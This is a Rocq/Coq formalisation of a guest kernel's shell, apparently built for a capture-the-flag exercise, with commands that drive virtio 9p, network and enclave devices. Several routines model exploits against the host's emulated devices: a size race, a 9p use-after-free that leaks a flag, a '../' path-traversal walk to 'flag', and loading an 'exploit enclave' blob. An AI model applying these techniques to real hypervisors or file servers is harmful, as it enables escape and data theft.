(* ===== verification/KShell.v ===== *)
(** * KShell: the command loop of the guest kernel (boot/kernel/kernel.c)

    The kernel reads lines from the console and runs the command of each line
    against the devices.  Local arrays live at [stack]; string literals at [lit];
    the signed arguments of [kprinti] are the numbers that C converts to [int]. *)

From S2P Require Import Prelude Effects KMem KMalloc Libc P9Wire Virtio KP9 KSys KDriver.
From Stdlib Require Import Ascii.

Definition HEAP_SIZE := 0x80000.
Definition BUF_SIZE := 0x1000.
Definition NUM_CORES := 2.
Definition AP_TRAMPOLINE := 0x80000.
Definition net := 0xe1b00000.
Definition p9 := 0x9b000000.
Definition OGX := 0xefff0000.
Definition OGX_RQ_ID := 0.
Definition OGX_WQ_ID := 1.

(** The prebuilt requests of [test_ogx]. *)
Definition OGX_LOAD_SIGNAL_ENCLAVE : bytes :=
  [0xa3; 0x61; 0x6d; 0x98; 0x5c; 0x18; 0xf7; 0x18; 0x73; 0x18; 0xa6; 0x18; 0x83; 0x18; 0x4e; 0x18; 0x4a; 0x18; 0xca; 0x18; 0x6d;
   0x18; 0xf7; 0x18; 0xda; 0x18; 0x3b; 0x18; 0xe1; 0x18; 0xa2; 0x18; 0x29; 0x18; 0x8f; 0x18; 0x84; 0x18; 0x8e; 0x18; 0xd6; 0x18;
   0xa8; 0x18; 0x2b; 0x18; 0x9d; 0x18; 0xa4; 0x18; 0xc2; 0x18; 0x55; 0x18; 0xad; 0x18; 0xaa; 0x18; 0xf7; 0x11; 0x18; 0x6f; 0x18;
   0x92; 0x17; 0x18; 0x45; 0x11; 0x18; 0xc1; 0x03; 0x18; 0xa6; 0x18; 0xef; 0x18; 0xff; 0x18; 0xae; 0x18; 0xe6; 0x18; 0x91; 0x18;
   0xe2; 0x18; 0x1a; 0x18; 0x86; 0x18; 0x5d; 0x18; 0x9b; 0x18; 0xa1; 0x18; 0x3d; 0x18; 0xe4; 0x18; 0x48; 0x15; 0x18; 0xf2; 0x18;
   0x8a; 0x18; 0xef; 0x18; 0x84; 0x18; 0xa9; 0x18; 0x51; 0x18; 0x4f; 0x18; 0x79; 0x18; 0x34; 0x18; 0x22; 0x18; 0xd2; 0x18; 0x67;
   0x18; 0x9c; 0x18; 0x70; 0x18; 0xbb; 0x18; 0x44; 0x18; 0x6e; 0x0f; 0x18; 0xa9; 0x18; 0x63; 0x18; 0xcf; 0x18; 0xd4; 0x04; 0x18;
   0x89; 0x18; 0x35; 0x18; 0x4a; 0x18; 0xe8; 0x18; 0x5d; 0x18; 0x3e; 0x18; 0x41; 0x18; 0x5f; 0x18; 0x96; 0x18; 0xbd; 0x18; 0x58;
   0x18; 0x8e; 0x18; 0x34; 0x18; 0xf0; 0x18; 0xcf; 0x18; 0xb1; 0x18; 0x53; 0x18; 0x47; 0x61; 0x6e; 0x98; 0x18; 0x18; 0xdc; 0x18;
   0xab; 0x18; 0xb8; 0x18; 0xea; 0x18; 0x8a; 0x10; 0x18; 0x86; 0x18; 0xa3; 0x18; 0x55; 0x18; 0xda; 0x18; 0xab; 0x18; 0x68; 0x18;
   0xf3; 0x18; 0x4b; 0x18; 0xb9; 0x18; 0xe5; 0x18; 0x3f; 0x18; 0xc6; 0x18; 0xb2; 0x18; 0x3e; 0x18; 0xb8; 0x0a; 0x18; 0x72; 0x18;
   0x99; 0x61; 0x73; 0x98; 0x20; 0x18; 0x45; 0x18; 0xb7; 0x18; 0xbd; 0x18; 0xf7; 0x18; 0xa2; 0x18; 0xf2; 0x18; 0xc1; 0x18; 0x6f;
   0x18; 0x38; 0x18; 0xb1; 0x18; 0xdd; 0x18; 0xab; 0x18; 0x2f; 0x18; 0x58; 0x18; 0x5f; 0x18; 0x44; 0x18; 0x9d; 0x18; 0xc3; 0x18;
   0x9b; 0x18; 0x6c; 0x18; 0xfb; 0x18; 0x68; 0x18; 0x37; 0x18; 0xb7; 0x18; 0x87; 0x18; 0xad; 0x18; 0x6c; 0x18; 0x3e; 0x18; 0x60;
   0x18; 0x6e; 0x18; 0x2c; 0x14].
Definition OGX_LOAD_EXPLOIT_ENCLAVE : bytes :=
  [0xa3; 0x61; 0x6d; 0x98; 0x3a; 0x18; 0x28; 0x0e; 0x18; 0x20; 0x03; 0x18; 0xe7; 0x18; 0x76; 0x18; 0xaf; 0x18; 0xfa; 0x18; 0x6f;
   0x18; 0x77; 0x18; 0xe5; 0x18; 0x50; 0x18; 0x8c; 0x18; 0x49; 0x18; 0x7c; 0x18; 0xcd; 0x05; 0x18; 0xca; 0x18; 0xd9; 0x18; 0xf6;
   0x18; 0x48; 0x18; 0x29; 0x18; 0x7f; 0x18; 0x29; 0x18; 0x9f; 0x18; 0x64; 0x18; 0x99; 0x18; 0xb3; 0x18; 0xda; 0x18; 0xe8; 0x18;
   0x4a; 0x18; 0x48; 0x18; 0x7e; 0x18; 0x79; 0x07; 0x04; 0x18; 0x72; 0x18; 0xbd; 0x18; 0xcf; 0x18; 0xc5; 0x18; 0x7f; 0x18; 0x79;
   0x0e; 0x18; 0x6f; 0x18; 0x80; 0x18; 0xd2; 0x18; 0x75; 0x18; 0x87; 0x18; 0x66; 0x18; 0x2b; 0x0b; 0x18; 0xb8; 0x18; 0xf4; 0x18;
   0x68; 0x18; 0xdc; 0x18; 0x2f; 0x18; 0x5a; 0x18; 0xcc; 0x61; 0x6e; 0x98; 0x18; 0x18; 0x9f; 0x18; 0x43; 0x18; 0x9c; 0x00; 0x18;
   0xf0; 0x18; 0xb6; 0x18; 0xe1; 0x18; 0xda; 0x18; 0x19; 0x18; 0xb3; 0x18; 0xc2; 0x18; 0xff; 0x18; 0x9b; 0x18; 0x51; 0x18; 0xd9;
   0x18; 0xc1; 0x18; 0x49; 0x18; 0xd0; 0x18; 0xcd; 0x18; 0xce; 0x18; 0xaf; 0x0a; 0x18; 0x7e; 0x18; 0x18; 0x61; 0x73; 0x98; 0x20;
   0x18; 0x45; 0x18; 0xb7; 0x18; 0xbd; 0x18; 0xf7; 0x18; 0xa2; 0x18; 0xf2; 0x18; 0xc1; 0x18; 0x6f; 0x18; 0x38; 0x18; 0xb1; 0x18;
   0xdd; 0x18; 0xab; 0x18; 0x2f; 0x18; 0x58; 0x18; 0x5f; 0x18; 0x44; 0x18; 0x9d; 0x18; 0xc3; 0x18; 0x9b; 0x18; 0x6c; 0x18; 0xfb;
   0x18; 0x68; 0x18; 0x37; 0x18; 0xb7; 0x18; 0x87; 0x18; 0xad; 0x18; 0x6c; 0x18; 0x3e; 0x18; 0x60; 0x18; 0x6e; 0x18; 0x2c; 0x14].

Definition ln (s : string) : string := s +:+ CRLF.
Definition TAB : string := String "009"%char EmptyString.

(** The locals of [kernel_main]. *)
Record shell := Shell {
  net_vq0 : Z; net_vq0_idx : Z;
  net_vq1 : Z; net_vq1_idx : Z;
  net_vq2 : Z; net_vq2_idx : Z;
  p9_vq0 : Z; p9_vq0_idx : Z;
  p9_vq1 : Z; p9_vq1_idx : Z;
  base_fid : Z;
  operative_fid : Z;
}.
#[export] Instance shell_eta : Settable shell := fun s =>
  Shell (net_vq0 s) (net_vq0_idx s) (net_vq1 s) (net_vq1_idx s) (net_vq2 s) (net_vq2_idx s)
    (p9_vq0 s) (p9_vq0_idx s) (p9_vq1 s) (p9_vq1_idx s) (base_fid s) (operative_fid s).

Section Shell.
Context (env : kenv) (fuel : nat) (lit : string -> Z) (isr_stub_table idt_address : Z).
(** The addresses of [flag] and [heap], and of the local arrays of the running function. *)
Context (flag heap stack : Z).

#[local] Abbreviation print s := (kprintl env fuel lit s).
#[local] Abbreviation println s := (kprintl env fuel lit (ln s)).
#[local] Abbreviation printi s := (kprinti env (i32 s)).
#[local] Abbreviation printiln s := (kprintiln env fuel lit (i32 s)).
#[local] Abbreviation while_not c := (spin env fuel c).
#[local] Abbreviation call f := (run_client (fun c => (fun c' => (tt, c')) <$> f c)).
#[local] Abbreviation call_pure f := (run_client (fun c => Some (tt, f c))).
#[local] Abbreviation setup device n q := (setup_virtq env fuel device n BUF_SIZE q).
#[local] Abbreviation ready device q vq := (commit_and_ready_vq env device q vq).

(** The fields of a [p9_msg_t]. *)
Definition msg_size (msg : Z) : kprog Z := ld32 msg.
Definition msg_type (msg : Z) : kprog Z := ld8 (msg + 4).
Definition msg_tag (msg : Z) : kprog Z := ld16 (msg + 5).

(** A number that is not 0. *)
Definition nonzero (c : kprog Z) : kprog bool := v ← c; mret (negb (v =? 0)).

(** ** The other CPUs *)

(** One of them may change the size of a request for ever. *)
Definition ap_run (cpu_id : Z) : kprog unit :=
  apid ← ksys env Apic_id;
  print "AP! ";;
  printi apid;;
  d ← gets p9_racing_doit;
  (if negb (d =? 0) then
     modify (fun k => k <| p9_ready_to_race := 1 |>);;
     println "Racer started :)";;
     loop fuel (fun i =>
       size ← gets p9_race_addr;
       st32 size (if Z.rem i 2 =? 0 then 0x60 else 0xffff);;
       if i =? 2 ^ 31 - 1 then fail Undefined else mret (inl (i + 1))) 0
   else mret tt);;
  loop fuel (fun _ : unit => wait env;; mret (inl tt)) tt.

(** Start of the other CPUs, in [test_p9_race] and [kernel_main]. *)
Definition launch_aps : kprog unit :=
  apicbase ← ksys env (Rdmsr 0x1b);
  let apicbase := i32 (Z.land (u32 apicbase) 0xfffff000) in
  kprinti env apicbase;;
  for_each (seq 1 (Z.to_nat NUM_CORES - 1)) (fun j : nat =>
    ksys env (St32 (u32 (apicbase + 4)) (Z.lor AP_TRAMPOLINE j))).

(** ** Tests of the 9p device *)

Definition p9_rmesgs : kprog unit :=
  vq ← setup p9 20 1;
  modify (fun k => k <| p9_rq := vq |>);;
  ready p9 1 vq.

Definition p9_wait_for_resp (idx : Z) : kprog unit :=
  rq ← gets p9_rq;
  msg ← buf_of rq idx;
  while_not (nonzero (msg_size msg)).

(** Ten words of a response. *)
Definition show_words (rq : Z) (i : nat) : kprog unit :=
  println " printing responses...";;
  addr ← buf_of rq i;
  for_each (seq 0 10) (fun i : nat =>
    print TAB;;
    v ← ld32 (addr + 4 * i);
    printiln v);;
  print CRLF.

Definition p9_showrmesgs : kprog unit :=
  for_each (seq 0 20) (fun i : nat =>
    rq ← gets p9_rq;
    msg ← buf_of rq i;
    size ← msg_size msg;
    if size =? 0 then mret tt else
    print "Tag: ";;
    tag ← msg_tag msg;
    printi tag;;
    print " Type: ";;
    type ← msg_type msg;
    printiln type;;
    type ← msg_type msg;
    if type =? P9_RERROR then
      print "Error: ";;
      kprints env fuel (msg_body msg + 2);;
      print CRLF
    else rq ← gets p9_rq; show_words rq i).

Definition p9_uaf_findflag : kprog unit :=
  for_each (seq 0 20) (fun i : nat =>
    rq ← gets p9_rq;
    msg ← buf_of rq i;
    size ← msg_size msg;
    if size =? 0 then mret tt else
    print "Tag: ";;
    tag ← msg_tag msg;
    printi tag;;
    print " Type: ";;
    type ← msg_type msg;
    printiln type;;
    type ← msg_type msg;
    if type =? P9_RERROR then
      print "Error: ";;
      kprints env fuel (msg_body msg + 2);;
      print CRLF
    else
      type ← msg_type msg;
      if type =? P9_RREAD then
        print "Read: ";;
        kprints env fuel (msg_body msg + 4)
      else rq ← gets p9_rq; show_words rq i).

Definition test_p9_race : kprog unit :=
  vq0 ← setup p9 1 0;
  a ← buf_of vq0 0;
  modify (fun k => k <| p9_race_addr := a |>);;
  modify (fun k => k <| p9_racing_doit := 1 |>);;
  launch_aps;;
  while_not (nonzero (gets p9_ready_to_race));;
  println "Starting with race...";;
  ready p9 0 vq0.

(** [int + 1] *)
Definition succ32 (n : Z) : Z := i32 (n + 1).

Definition test_p9_uaf : kprog unit :=
  p9_rmesgs;;
  vq0 ← setup p9 20 0;
  a ← buf_of vq0 0; call (fun c => p9_version fuel lit c a);;
  a ← buf_of vq0 1; fid ← run_client (fun c => p9_attach fuel c a (lit "pi") (lit "share"));
  a ← buf_of vq0 2; clonefid1 ← run_client (fun c => p9_walk fuel c a fid (succ32 fid) 0 0);
  a ← buf_of vq0 3; clonefid2 ← run_client (fun c => p9_walk fuel c a fid (succ32 clonefid1) 0 0);
  a ← buf_of vq0 4; clonefid3 ← run_client (fun c => p9_walk fuel c a fid (succ32 clonefid2) 0 0);
  a ← buf_of vq0 5; call (fun c => p9_create fuel c a clonefid1 (lit "child1") 0x1ff 2);;
  a ← buf_of vq0 6; call (fun c => p9_create fuel c a clonefid2 (lit "child2") 0x1ff 2);;
  a ← buf_of vq0 7; call (fun c => p9_create fuel c a clonefid3 (lit "child3") 0x1ff 2);;
  let flag_addr := 0x30000000 in
  printi flag_addr;; print CRLF;;
  printi flag_addr;; print CRLF;;
  let flag_addr := u32 (flag_addr + flag) in
  printi flag_addr;; print CRLF;;
  let flag_addr := u32 (flag_addr - 0x100000) in
  printi flag_addr;; print CRLF;;
  let payload := stack in
  for_each (seq 0 3) (fun i : nat => st64 (payload + 8 * i) flag_addr);;
  for_each (seq 0 9) (fun i : nat => st64 (payload + 8 * (3 + i)) 0);;
  a ← buf_of vq0 8; call_pure (fun c => p9_write c a clonefid1 0 payload 0x60);;
  a ← buf_of vq0 9; uaffid ← run_client (fun c => p9_walk fuel c a fid fid 0 0);
  a ← buf_of vq0 10; call_pure (fun c => p9_read c a clonefid1 0 0x60);;
  a ← buf_of vq0 11; call_pure (fun c => p9_open c a uaffid 0);;
  a ← buf_of vq0 12; call_pure (fun c => p9_read c a uaffid 0 48);;
  ready p9 0 vq0;;
  p9_wait_for_resp 0;;
  p9_uaf_findflag.

Definition test_p9_cmd : kprog unit :=
  p9_rmesgs;;
  vq0 ← setup p9 20 0;
  a ← buf_of vq0 0; call (fun c => p9_version fuel lit c a);;
  a ← buf_of vq0 1; call (fun c => p9_auth fuel lit c a (lit "pizza") (lit "share"));;
  a ← buf_of vq0 2; fid ← run_client (fun c => p9_attach fuel c a (lit "pizza") (lit "share"));
  let clonewalk := stack in
  st32 clonewalk (lit "abe");;
  a ← buf_of vq0 3; clonefid ← run_client (fun c => p9_walk fuel c a fid (succ32 fid) 1 clonewalk);
  let walk := stack + 4 in
  st32 walk (lit "abe");;
  st32 (walk + 4) (lit "pizza");;
  let openfid := 0x333 in
  a ← buf_of vq0 4; fid ← run_client (fun c => p9_walk fuel c a fid openfid 2 walk);
  a ← buf_of vq0 5; call_pure (fun c => p9_open c a fid 0);;
  a ← buf_of vq0 6; call_pure (fun c => p9_read c a fid 2 40);;
  st32 walk (lit "..");;
  let safefid := 0x34 in
  a ← buf_of vq0 7; newfid ← run_client (fun c => p9_walk fuel c a clonefid safefid 1 walk);
  a ← buf_of vq0 8; call (fun c => p9_create fuel c a newfid (lit "test") 0x1ff 1);;
  a ← buf_of vq0 9; call_pure (fun c => p9_write c a newfid 0 (lit ("hello" +:+ String "010"%char EmptyString)) 6);;
  a ← buf_of vq0 10; call_pure (fun c => p9_clunk c a newfid);;
  st32 walk (lit "abe/../../../../flag");;
  a ← buf_of vq0 11; run_client (fun c => p9_walk fuel c a safefid (succ32 safefid) 1 walk);;
  ready p9 0 vq0;;
  p9_showrmesgs.

(** ** Commands for the 9p device *)

Definition tx_p9_version (vq idx : Z) : kprog unit :=
  a ← buf_of vq idx;
  call (fun c => p9_version fuel lit c a);;
  ready p9 0 vq.

(** The buffer of a request; [None] is the early return of -1. *)
Definition tx_buf (msg : string) : kprog (option Z) :=
  buf ← kmalloc fuel BUF_SIZE;
  if buf =? 0 then println msg;; mret None else mret (Some buf).
Definition tx (msg : string) (f : Z -> kprog Z) : kprog Z :=
  b ← tx_buf msg;
  match b with
  | None => mret (-1)
  | Some buf => f buf
  end.
Definition tx_add (vq buf : Z) : kprog Z := add_buf env p9 0 vq buf BUF_SIZE.

Definition tx_p9_attach (vq idx attach : Z) : kprog Z :=
  tx "Malloc failed in tx_p9_attach" (fun buf =>
    fid ← run_client (fun c => p9_attach fuel c buf (lit "pizza") attach);
    tx_add vq buf;;
    modify (fun k => k <| rolling_fid := fid |>);;
    mret fid).

Definition tx_p9_walk (vq idx fid dest : Z) : kprog Z :=
  tx "Malloc failed in tx_p9_walk" (fun buf =>
    modify (fun k => k <| rolling_fid ::= succ32 |>);;
    new_fid ← gets rolling_fid;
    let path := stack in
    st32 path dest;;
    new_fid ← run_client (fun c => p9_walk fuel c buf fid new_fid 1 path);
    tx_add vq buf;;
    mret new_fid).

Definition tx_p9_create (vq idx fid file is_dir : Z) : kprog Z :=
  tx "Malloc failed in tx_p9_walk" (fun buf =>
    let perms := if negb (is_dir =? 0) then Z.lor 0x1ff 0x80000000 else 0x1b6 in
    call (fun c => p9_create fuel c buf fid file perms 2);;
    tx_add vq buf;;
    mret fid).

Definition tx_p9_write_file (vq idx fid content : Z) : kprog Z :=
  tx "Malloc failed in tx_p9_walk" (fun buf =>
    n ← kstrlen fuel content;
    call_pure (fun c => p9_write c buf fid 0 content n);;
    tx_add vq buf;;
    mret fid).

Definition tx_p9_read_file (vq idx fid : Z) : kprog Z :=
  tx "Malloc failed in tx_p9_walk" (fun buf =>
    call_pure (fun c => p9_read c buf fid 0 0xfff);;
    tx_add vq buf;;
    mret fid).

Definition tx_p9_open_file (vq idx fid : Z) : kprog Z :=
  tx "Malloc failed in tx_p9_walk" (fun buf =>
    call_pure (fun c => p9_open c buf fid 2);;
    tx_add vq buf;;
    mret fid).

Definition tx_p9_clunk (vq idx fid : Z) : kprog Z :=
  tx "Malloc failed in tx_p9_walk" (fun buf =>
    call_pure (fun c => p9_clunk c buf fid);;
    tx_add vq buf;;
    mret fid).

Definition tx_p9_remove (vq idx fid : Z) : kprog Z :=
  tx "Malloc failed in tx_p9_walk" (fun buf =>
    call_pure (fun c => p9_remove c buf fid);;
    tx_add vq buf;;
    mret fid).

Definition rx_p9_rmessage (vq idx : Z) : kprog Z :=
  if idx =? 0 then
    ready p9 1 vq;;
    msg ← buf_of vq idx;
    while_not (nonzero (msg_size msg));;
    mret msg
  else
    buf ← kmalloc fuel BUF_SIZE;
    if buf =? 0 then println "Malloc failed in rx_p9_message";; mret (u32 (-1)) else
    st32 buf 0;;
    add_buf env p9 1 vq buf BUF_SIZE;;
    while_not (nonzero (msg_size buf));;
    mret buf.

(** ** Tests of the network card *)

Definition tx_pkt (pkt_data size vq idx : Z) : kprog unit :=
  a ← buf_of vq idx;
  st16 a size;;
  for_each (seq 0 (Z.to_nat size)) (fun i : nat =>
    c ← ld8 (pkt_data + i);
    a ← buf_of vq idx;
    st8 (a + i + 2) c);;
  ready net 1 vq.

Definition test_pkt_tx (vq idx : Z) : kprog unit :=
  tx_pkt (lit "DSTMACSRCMACLNaTLIDFOTP11IPIPDTDTDTDTAAA") 40 vq idx.
Definition test_ipv4_pkt_tx (vq idx : Z) : kprog unit :=
  tx_pkt (lit "DSTMACSRCMACLNEGTLIDFOTP__IPIPDTDTDTDTAA") 40 vq idx.

Definition test_pkt_rx (vq idx : Z) : kprog unit :=
  ready net 2 vq;;
  a ← buf_of vq idx;
  size ← ld16 a;
  printi size;;
  kprintc env 10;;
  for_each (seq 0 (Z.to_nat size)) (fun i : nat =>
    a ← buf_of vq idx;
    c ← ld (fun m => rd_char m (a + 2 + i));
    kprintc env c).

Definition net_set_driver_features : kprog unit :=
  reg env net REG_DRIVER_FEATURES_SELECT 1;;
  reg env net REG_DRIVER_FEATURES 0;;
  reg env net REG_DRIVER_FEATURES_SELECT 0;;
  reg env net REG_DRIVER_FEATURES 0x3f.

Definition net_send_ctrl_message (vq idx ctrl data : Z) : kprog unit :=
  a ← buf_of vq idx;
  st8 a ctrl;;
  a ← buf_of vq idx;
  st8 (a + 1) data;;
  ready net 0 vq.

(** ** Tests of the enclaves *)

(** [while (!((uint16_t* )vq->desc[i].addr)[0]);] *)
Definition await_size (vq i : Z) : kprog unit :=
  while_not (nonzero (a ← buf_of vq i; ld16 a)).

Definition test_ogx : kprog unit :=
  println "setting up ogx read queue";;
  ogx_rq ← setup OGX 3 OGX_RQ_ID;
  for_each (seq 0 3) (fun i : nat => a ← buf_of ogx_rq i; st16 a 0);;
  ready OGX OGX_RQ_ID ogx_rq;;
  println "setting up ogx write queue";;
  ogx_wq ← setup OGX 1 OGX_WQ_ID;
  println "loading signal enclave to evict enclave 0";;
  a ← buf_of ogx_wq 0;
  st16 a (length OGX_LOAD_SIGNAL_ENCLAVE);;
  for_each (zip (seq 0 (length OGX_LOAD_SIGNAL_ENCLAVE)) OGX_LOAD_SIGNAL_ENCLAVE) (fun x : nat * Z =>
    a ← buf_of ogx_wq 0;
    st8 (a + x.1 + 2) x.2);;
  ready OGX OGX_WQ_ID ogx_wq;;
  println "waiting for signal enclave response";;
  await_size ogx_rq 0;;
  println "waiting for flag enclave response";;
  await_size ogx_rq 1;;
  println "loading exploit enclave into old flag enclave";;
  exploit_buffer ← kmalloc fuel 0x1000;
  st16 exploit_buffer (length OGX_LOAD_EXPLOIT_ENCLAVE);;
  for_each (zip (seq 0 (length OGX_LOAD_EXPLOIT_ENCLAVE)) OGX_LOAD_EXPLOIT_ENCLAVE) (fun x : nat * Z =>
    st8 (exploit_buffer + x.1 + 2) x.2);;
  add_buf env OGX OGX_WQ_ID ogx_wq exploit_buffer 0x1000;;
  println "waiting for exploit enclave response";;
  await_size ogx_rq 2;;
  print "flag response: ";;
  a ← buf_of ogx_rq 2;
  response_size ← ld16 a;
  sum ← loop fuel (fun s : Z * Z => let '(i, sum) := s in
    if i <? response_size then
      a ← buf_of ogx_rq 2;
      b ← ld8 (a + i + 2);
      let sum := Z.lxor sum b in
      a ← buf_of ogx_rq 2;
      b ← ld8 (a + i + 2);
      printi b;;
      print " ";;
      (if i mod 16 =? 15 then print CRLF else mret tt);;
      mret (inl (i + 1, sum))
    else mret (inr sum)) (0, 0);
  print (CRLF +:+ "ciphertext sum: ");;
  printi sum;;
  print CRLF.

(** One enclave; [Some] is [break]. *)
Definition patch_enclave (ogx_rq ogx_wq : Z) (num_enclaves : nat) : kprog (option unit) :=
  enclave_size ← read_u16 env;
  if enclave_size =? 0 then mret (Some tt) else
  if BUF_SIZE <? enclave_size then println "enclave is too large";; mret (Some tt) else
  (if bool_decide (num_enclaves = 0%nat) then
     a ← buf_of ogx_wq 0;
     st16 a enclave_size;;
     for_each (seq 0 (Z.to_nat enclave_size)) (fun i : nat =>
       c ← read_u8 env;
       a ← buf_of ogx_wq 0;
       st8 (a + i + 2) c);;
     ready OGX OGX_WQ_ID ogx_wq
   else
     enclave_buffer ← kmalloc fuel enclave_size;
     st16 enclave_buffer enclave_size;;
     for_each (seq 0 (Z.to_nat enclave_size)) (fun i : nat =>
       c ← read_u8 env;
       st8 (enclave_buffer + i + 2) c);;
     add_buf env OGX OGX_WQ_ID ogx_wq enclave_buffer enclave_size;;
     mret tt);;
  await_size ogx_rq num_enclaves;;
  a ← buf_of ogx_rq num_enclaves;
  response_size ← ld16 a;
  printiln response_size;;
  for_each (seq 0 (Z.to_nat response_size)) (fun i : nat =>
    a ← buf_of ogx_rq num_enclaves;
    b ← ld8 (a + i + 2);
    printiln b);;
  mret None.

Definition test_ogx_patch : kprog unit :=
  let max_enclaves := 16 in
  ogx_rq ← setup OGX max_enclaves OGX_RQ_ID;
  for_each (seq 0 (Z.to_nat max_enclaves)) (fun i : nat => a ← buf_of ogx_rq i; st16 a 0);;
  ready OGX OGX_RQ_ID ogx_rq;;
  ogx_wq ← setup OGX 1 OGX_WQ_ID;
  for_until (seq 0 (Z.to_nat max_enclaves)) (patch_enclave ogx_rq ogx_wq);;
  println "ogx patch testing finished".

(** ** The command loop *)

(** [!strcmp(cmd, s)] and [!strncmp(cmd, s, n)] *)
Inductive test :=
  | Is (s : string)
  | Starts (s : string) (n : Z).
Definition passes (cmd : Z) (t : test) : kprog bool :=
  r ← match t with
      | Is s => kstrcmp fuel cmd (lit s)
      | Starts s n => k_strncmp fuel cmd (lit s) n
      end;
  mret (r =? 0).

(** The answer of the device to a request. *)
Definition p9_answer (failed : string) (ok : Z -> kprog unit) (s : shell) : kprog unit :=
  msg ← rx_p9_rmessage (p9_vq1 s) (p9_vq1_idx s);
  type ← msg_type msg;
  if type =? P9_RERROR then println failed else ok msg.

(** A control message to the network card. *)
Definition net_ctrl (ctrl data : Z) (s : shell) : kprog shell :=
  net_send_ctrl_message (net_vq0 s) (net_vq0_idx s) ctrl data;;
  mret (s <| net_vq0_idx ::= succ32 |>).

(** The commands and what they do, in the order in which they are tried. *)
Definition commands (cmd : Z) : list (test * (shell -> kprog shell)) := [
  (Is "prepare_net", fun s =>
    vq0 ← setup net 10 0; vq1 ← setup net 20 1; vq2 ← setup net 10 2;
    mret (s <| net_vq0 := vq0 |> <| net_vq1 := vq1 |> <| net_vq2 := vq2 |>));
  (Is "prepare_p9", fun s =>
    vq0 ← setup p9 1 0; vq1 ← setup p9 1 1;
    mret (s <| p9_vq0 := vq0 |> <| p9_vq1 := vq1 |>));
  (Is "noflag", fun s => exploit_noflag env fuel lit;; mret s);
  (Is "set_video", fun s => outb env 0x13 0x3b0;; ksys env (St8 VGA 0x41);; mret s);
  (Starts "noflag_file " 12, fun s => noflag_give_file env fuel (cmd + 12);; mret s);
  (Is "launchap", fun s => launch_aps;; mret s);
  (Is "write", fun s => outb env 0x41414141 0x92;; outb env 0x42 0x95;; mret s);
  (Is "p9race", fun s => test_p9_race;; mret s);
  (Is "p9uaf", fun s => test_p9_uaf;; mret s);
  (Is "p9", fun s => test_p9_cmd;; mret s);
  (Is "p9_version", fun s =>
    tx_p9_version (p9_vq0 s) (p9_vq0_idx s);;
    msg ← rx_p9_rmessage (p9_vq1 s) (p9_vq1_idx s);
    kprints env fuel (msg_body msg + 6);;
    mret (s <| p9_vq0_idx ::= succ32 |> <| p9_vq1_idx ::= succ32 |>));
  (Starts "p9_attach " 10, fun s =>
    f ← tx_p9_attach (p9_vq0 s) (p9_vq0_idx s) (cmd + 10);
    let s := s <| base_fid := f |> <| operative_fid := f |> in
    p9_answer "FAILED attach to share" (fun _ => printiln f) s;;
    mret s);
  (Starts "p9_walk " 8, fun s =>
    f ← tx_p9_walk (p9_vq0 s) (p9_vq0_idx s) (base_fid s) (cmd + 8);
    let s := s <| operative_fid := f |> in
    p9_answer "FAILED path traversal" (fun _ => printiln f) s;;
    mret s);
  (Starts "p9_walk_rel " 12, fun s =>
    f ← tx_p9_walk (p9_vq0 s) (p9_vq0_idx s) (operative_fid s) (cmd + 12);
    let s := s <| operative_fid := f |> in
    p9_answer "FAILED path traversal" (fun _ => printiln f) s;;
    mret s);
  (Starts "p9_create_file " 15, fun s =>
    tx_p9_create (p9_vq0 s) (p9_vq0_idx s) (operative_fid s) (cmd + 15) 0;;
    p9_answer "FAILED create file" (fun _ => printiln (operative_fid s)) s;;
    mret s);
  (Starts "p9_create_dir " 14, fun s =>
    tx_p9_create (p9_vq0 s) (p9_vq0_idx s) (operative_fid s) (cmd + 14) 1;;
    p9_answer "FAILED create dir" (fun _ => printiln (operative_fid s)) s;;
    mret s);
  (Starts "p9_write_file " 14, fun s =>
    tx_p9_write_file (p9_vq0 s) (p9_vq0_idx s) (operative_fid s) (cmd + 14);;
    p9_answer "FAILED write file" (fun _ => printiln (operative_fid s)) s;;
    mret s);
  (Starts "p9_read_file" 12, fun s =>
    old_intr_cnt ← gets p9_intrs;
    tx_p9_read_file (p9_vq0 s) (p9_vq0_idx s) (operative_fid s);;
    p9_answer "FAILED read file" (fun msg =>
      while_not (v ← ksys env (Ld8 VGA); mret (negb (old_intr_cnt =? u8 v)));;
      while_not (nonzero (ld32 (msg_body msg)));;
      kprints env fuel (msg_body msg + 4)) s;;
    mret s);
  (Starts "p9_open_file" 12, fun s =>
    tx_p9_open_file (p9_vq0 s) (p9_vq0_idx s) (operative_fid s);;
    p9_answer "FAILED open file" (fun _ => printi (operative_fid s)) s;;
    mret s);
  (Starts "p9_clunk" 8, fun s =>
    tx_p9_clunk (p9_vq0 s) (p9_vq0_idx s) (operative_fid s);;
    p9_answer "FAILED clunk file" (fun _ => printi (operative_fid s)) s;;
    mret s);
  (Starts "p9_remove" 9, fun s =>
    tx_p9_remove (p9_vq0 s) (p9_vq0_idx s) (operative_fid s);;
    p9_answer "FAILED remove file" (fun _ => printi (operative_fid s)) s;;
    mret s);
  (Is "tx_pkt", fun s =>
    test_pkt_tx (net_vq1 s) (net_vq1_idx s);;
    mret (s <| net_vq1_idx ::= fun i => Z.rem (i + 1) 10 |>));
  (Is "tx_ipv4_pkt", fun s =>
    test_ipv4_pkt_tx (net_vq1 s) (net_vq1_idx s);;
    mret (s <| net_vq1_idx ::= fun i => Z.rem (i + 1) 10 |>));
  (Is "rx_pkt", fun s =>
    test_pkt_rx (net_vq2 s) (net_vq2_idx s);;
    mret (s <| net_vq2_idx ::= fun i => Z.rem (i + 1) 10 |>));
  (Is "net_set_driver_features", fun s => net_set_driver_features;; mret s);
  (Is "net_enable_promisc", net_ctrl 3 1);
  (Is "net_disable_promisc", net_ctrl 3 0);
  (Is "net_enable_chksum_tx", net_ctrl 1 1);
  (Is "net_disable_chksum_tx", net_ctrl 1 0);
  (Is "net_enable_chksum_rx", net_ctrl 2 1);
  (Is "net_disable_chksum_rx", net_ctrl 2 0);
  (Is "net_enable_rx_eth", net_ctrl 4 1);
  (Is "net_disable_rx_eth", net_ctrl 4 0);
  (Is "net_enable_tx_eth", net_ctrl 5 1);
  (Is "net_disable_tx_eth", net_ctrl 5 0);
  (Is "test_ogx", fun s => test_ogx;; mret s);
  (Is "test_ogx_patch", fun s => test_ogx_patch;; mret s)
].

(** The chain of [if] and [else if]. *)
Fixpoint dispatch (cmd : Z) (l : list (test * (shell -> kprog shell))) (s : shell) : kprog shell :=
  match l with
  | [] =>
      kprints env fuel cmd;;
      println ": not found";;
      mret s
  | (t, run) :: l =>
      b ← passes cmd t;
      if (b : bool) then run s else dispatch cmd l s
  end.

(** The loop over the characters of a line; its result is [i]. *)
